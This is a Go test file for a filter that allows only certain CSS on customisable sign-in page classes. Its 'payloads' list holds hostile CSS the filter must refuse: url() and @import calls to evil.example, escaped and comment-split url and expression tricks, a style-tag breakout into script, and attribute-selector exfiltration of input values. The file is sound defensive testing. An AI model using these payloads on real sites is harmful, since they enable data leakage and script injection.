package cssfilter

import (
	"errors"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func TestFilterKeepsWhatMayBeCustomised(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"":             "",
		" \n /* */ \t": "",
		".label-customizable {\n\tfont-weight: 400;\n}": ".label-customizable{font-weight:400}\n",
		".label-customizable {}":                        "",
		".label-customizable{;;color:RED;}":             ".label-customizable{color:red}\n",
		".label-customizable{COLOR:#AbC}":               ".label-customizable{color:#abc}\n",
		".submitButton-customizable{margin:20px 0px 10px 0px;height:40px;width:100%;background-color:#337ab7}": ".submitButton-customizable{margin:20px 0px 10px 0px;height:40px;width:100%;background-color:#337ab7}\n",
		".submitButton-customizable:hover { color: #fff !important }":                                          ".submitButton-customizable:hover{color:#fff!important}\n",
		".inputField-customizable:focus{border-color:#66afe9;outline:0}":                                       ".inputField-customizable:focus{border-color:#66afe9;outline:0}\n",
		".errorMessage-customizable{border: 2px/*x*/solid /* y\n */ #D64958; box-sizing:border-box}":           ".errorMessage-customizable{border:2px solid #d64958;box-sizing:border-box}\n",
		".idpButton-customizable , .socialButton-customizable\n{ width : 50.5% }":                              ".idpButton-customizable,.socialButton-customizable{width:50.5%}\n",
		".background-customizable{background-color:rgba( 1 , 2, 3 ,0.5 )}":                                     ".background-customizable{background-color:rgba(1,2,3,0.5)}\n",
		".background-customizable{background-color:hsl(120deg,10%,20%)}":                                       ".background-customizable{background-color:hsl(120deg,10%,20%)}\n",
		".textDescription-customizable{display:block;padding-top:1em;font-size:large}":                         ".textDescription-customizable{display:block;padding-top:1em;font-size:large}\n",
		".logo-customizable{max-width:60%;max-height:none}":                                                    ".logo-customizable{max-width:60%;max-height:none}\n",
		".passwordCheck-notValid-customizable{color:#DF3312}.passwordCheck-valid-customizable{color:#19BF00}":  ".passwordCheck-notValid-customizable{color:#df3312}\n.passwordCheck-valid-customizable{color:#19bf00}\n",
	} {
		got, err := Filter(in)
		if err != nil {
			t.Errorf("Filter(%q): %v", in, err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("Filter(%q) (-want +got):\n%s", in, diff)
		}
	}
}

// The properties of each class, as endpoints.md §11.1 has them.
func TestEveryClassHasItsProperties(t *testing.T) {
	t.Parallel()
	samples := map[string]string{
		"font-weight": "bold", "color": "red", "background-color": "#fff", "background": "#fff", "border": "1px solid red", "border-color": "red",
		"outline": "0", "display": "block", "text-align": "left", "box-sizing": "border-box",
	}
	for class, properties := range map[string]string{
		"label": "font-weight color", "inputField": "width height color background-color border", "inputField:focus": "border-color outline",
		"textDescription": "padding-top padding-bottom display font-size color", "idpDescription": "padding-top padding-bottom display font-size color",
		"submitButton": "font-size font-weight margin width height color background-color", "submitButton:hover": "color background-color",
		"banner": "padding background-color", "errorMessage": "margin padding font-size width background border color box-sizing",
		"idpButton": "height width text-align margin-bottom color background-color border-color", "idpButton:hover": "color background-color",
		"socialButton": "height text-align width margin-bottom", "logo": "max-width max-height background-color", "legalText": "color font-size",
		"passwordCheck-valid": "color", "passwordCheck-notValid": "color", "background": "background-color",
	} {
		name, state, _ := strings.Cut(class, ":")
		selector := "." + name + "-customizable"
		if state != "" {
			selector += ":" + state
		}
		for property := range samples {
			value := samples[property]
			_, err := Filter(selector + "{" + property + ":" + value + "}")
			if listed := strings.Contains(" "+properties+" ", " "+property+" "); listed != (err == nil) {
				t.Errorf("%s in %s: listed %v, error %v", property, selector, listed, err)
			}
		}
		for property := range strings.FieldsSeq(properties) {
			value := samples[property]
			if value == "" {
				value = "10px"
			}
			if _, err := Filter(selector + "{" + property + ":" + value + "}"); err != nil {
				t.Errorf("%s in %s: %v", property, selector, err)
			}
		}
	}
}

// payloads are ways to load something, to read the page, to leave the style
// element, to cover the page, or to hide one of these from a filter.
var payloads = []string{
	`@import "//evil.example/x.css";`,
	`@import url(//evil.example);`,
	`@charset "utf-7";`,
	`@media screen{.label-customizable{color:red}}`,
	`@supports (display:block){.label-customizable{color:red}}`,
	`@page{margin:0}`,
	`@font-face{font-family:x;src:url(//evil.example)}`,
	`@keyframes x{from{color:red}}`,
	`@namespace svg url(http://www.w3.org/2000/svg);`,
	`@layer x{.label-customizable{color:red}}`,
	`.label-customizable{color:red}@import "x";`,
	`.background-customizable{background-color:url(//evil.example)}`,
	`.errorMessage-customizable{background:url(//evil.example/x.png)}`,
	`.errorMessage-customizable{background:URL("//evil.example")}`,
	`.errorMessage-customizable{background:u\72l(//evil.example)}`,
	`.errorMessage-customizable{background:\75\72\6C(//evil.example)}`,
	`.errorMessage-customizable{background:ur/**/l(//evil.example)}`,
	`.errorMessage-customizable{background:image-set("//evil.example" 1x)}`,
	`.errorMessage-customizable{background:-webkit-image-set(url(x) 1x)}`,
	`.errorMessage-customizable{background:cross-fade(url(x),url(y))}`,
	`.errorMessage-customizable{background:element(#x)}`,
	`.errorMessage-customizable{background:src(x)}`,
	`.errorMessage-customizable{background:attr(value)}`,
	`.errorMessage-customizable{background:var(--x)}`,
	`.errorMessage-customizable{background:paint(x)}`,
	`.errorMessage-customizable{background:expression(alert(1))}`,
	`.errorMessage-customizable{width:expression(alert(1))}`,
	`.errorMessage-customizable{width:exp/**/ression(alert(1))}`,
	`.errorMessage-customizable{width:calc(100% - 1px)}`,
	`.errorMessage-customizable{width:env(safe)}`,
	`.errorMessage-customizable{behavior:url(x.htc)}`,
	`.errorMessage-customizable{-moz-binding:url(x)}`,
	`.errorMessage-customizable{content:"x"}`,
	`.errorMessage-customizable{position:fixed}`,
	`.errorMessage-customizable{font-family:x}`,
	`.errorMessage-customizable{--x:red}`,
	`.errorMessage-customizable{margin:-1000px}`,
	`.errorMessage-customizable{width:99999px}`,
	`.errorMessage-customizable{width:1e5px}`,
	`.errorMessage-customizable{color:red;</style><script>alert(1)</script>}`,
	`/* </style><script>alert(1)</script> */`,
	`/* </STYLE */`,
	`.label-customizable{color:red}<!-- x -->`,
	`.label-customizable{color:red`,
	`.label-customizable{color:red}}`,
	`.label-customizable{{color:red}}`,
	`.label-customizable{color:red;.label-customizable{color:red}}`,
	`.label-customizable{color}`,
	`.label-customizable{color:}`,
	`.label-customizable{color:!important}`,
	`.label-customizable{color:red!ie}`,
	`.label-customizable{color:red blue}`,
	`.label-customizable{color:#12345}`,
	`.label-customizable{color:rgb(1,2)}`,
	`.label-customizable{color:rgb(1,2,3}`,
	`.label-customizable{color:rgb(1,2,3)x}`,
	`.label-customizable{color:rgb(url(x),2,3)}`,
	`.label-customizable{color:rеd}`, // the second letter is not Latin
	"\ufeff.label-customizable{color:red}",
	".label-customizable{color:red\x00}",
	`.label-customizable`,
	`.label-customizable;`,
	`/* no end`,
	`input[value^="a"]{background:url(//evil.example/a)}`,
	`.inputField-customizable[value^="a"]{color:red}`,
	`.inputField-customizable:focus[value^=a]{border-color:red}`,
	`.inputField-customizable:hover{color:red}`,
	`.inputField-customizable:has(x){color:red}`,
	`.inputField-customizable::before{color:red}`,
	`.inputField-customizable:{color:red}`,
	`.inputField-customizable :focus{border-color:red}`,
	`.label-customizable .label-customizable{color:red}`,
	`.label-customizable>.label-customizable{color:red}`,
	`.label-customizable,*{color:red}`,
	`.label-customizable,{color:red}`,
	`.label-customizable,.banner-customizable{color:red}`,
	`*{color:red}`,
	`body{background-color:red}`,
	`#x{color:red}`,
	`label-customizable{color:red}`,
	`.Label-customizable{color:red}`,
	`.other-customizable{color:red}`,
	`.customizable{color:red}`,
}

func TestS141StylesheetsThatAreRefused(t *testing.T) {
	t.Parallel()
	for _, payload := range payloads {
		got, err := Filter(payload)
		var refusal *Error
		if !errors.As(err, &refusal) || got != "" {
			t.Errorf("Filter(%q) = %q, %v, want an *Error", payload, got, err)
		}
	}
}

func TestS141TheSizeIsBounded(t *testing.T) {
	t.Parallel()
	rule := ".label-customizable{color:red}"
	fits := strings.Repeat(rule, MaxBytes/len(rule))
	if _, err := Filter(fits + strings.Repeat(" ", MaxBytes-len(fits))); err != nil {
		t.Errorf("%d bytes: %v", MaxBytes, err)
	}
	if _, err := Filter(fits + strings.Repeat(" ", MaxBytes-len(fits)+1)); err == nil {
		t.Errorf("%d bytes were taken", MaxBytes+1)
	}
}

func TestS141TheTimeIsBounded(t *testing.T) {
	t.Parallel()
	for _, piece := range []string{"/**/", "(", ".label-customizable,", ".label-customizable{color:red;", "color:rgb(", ",", ";", "/*\n*/"} {
		css := strings.Repeat(piece, MaxBytes/len(piece))
		for _, css := range []string{css, (".label-customizable{color:" + css)[:MaxBytes-100]} {
			took := time.Hour
			for range 3 { // the machine may be busy with other tests
				begin := time.Now()
				_, _ = Filter(css)
				took = min(took, time.Since(begin))
			}
			if took > 2*time.Second {
				t.Errorf("repeated %q took %v", piece, took)
			}
		}
	}
}

func TestErrorsNameTheLine(t *testing.T) {
	t.Parallel()
	_, err := Filter(".label-customizable {\n  color: red;\n  /* a\n b */ position: fixed;\n}")
	if want := `line 4: the property "position" is not allowed in .label-customizable`; err == nil || err.Error() != want {
		t.Errorf("got %v, want %s", err, want)
	}
}

var safe = regexp.MustCompile(`^(\.[A-Za-z-]+-customizable(:hover|:focus)?(,\.[A-Za-z-]+-customizable(:hover|:focus)?)*` +
	`\{[a-z-]+:[a-z0-9#%.,() -]+(!important)?(;[a-z-]+:[a-z0-9#%.,() -]+(!important)?)*\}\n)*$`)

// FuzzCSS checks that whatever gets through has the form of allowed rules alone,
// and that the filter has nothing more to change in it.
func FuzzCSS(f *testing.F) {
	for _, payload := range payloads {
		f.Add(payload)
	}
	f.Add(".submitButton-customizable:hover,.label-customizable { color : RGB(1,2,3) ! important ; }")
	f.Add(".errorMessage-customizable{border:2px solid #D64958;margin:0 auto 1.5em .5rem}")
	f.Fuzz(func(t *testing.T, css string) {
		out, err := Filter(css)
		if err != nil {
			return
		}
		if !safe.MatchString(out) {
			t.Errorf("Filter(%q) = %q", css, out)
		}
		for _, word := range []string{"url", "@", "expression", "\\", "<", "import ", "var(", "image"} {
			if strings.Contains(out, word) {
				t.Errorf("Filter(%q) has %q: %q", css, word, out)
			}
		}
		again, err := Filter(out)
		if err != nil || again != out {
			t.Errorf("Filter(%q) = %q, %v", out, again, err)
		}
	})
}
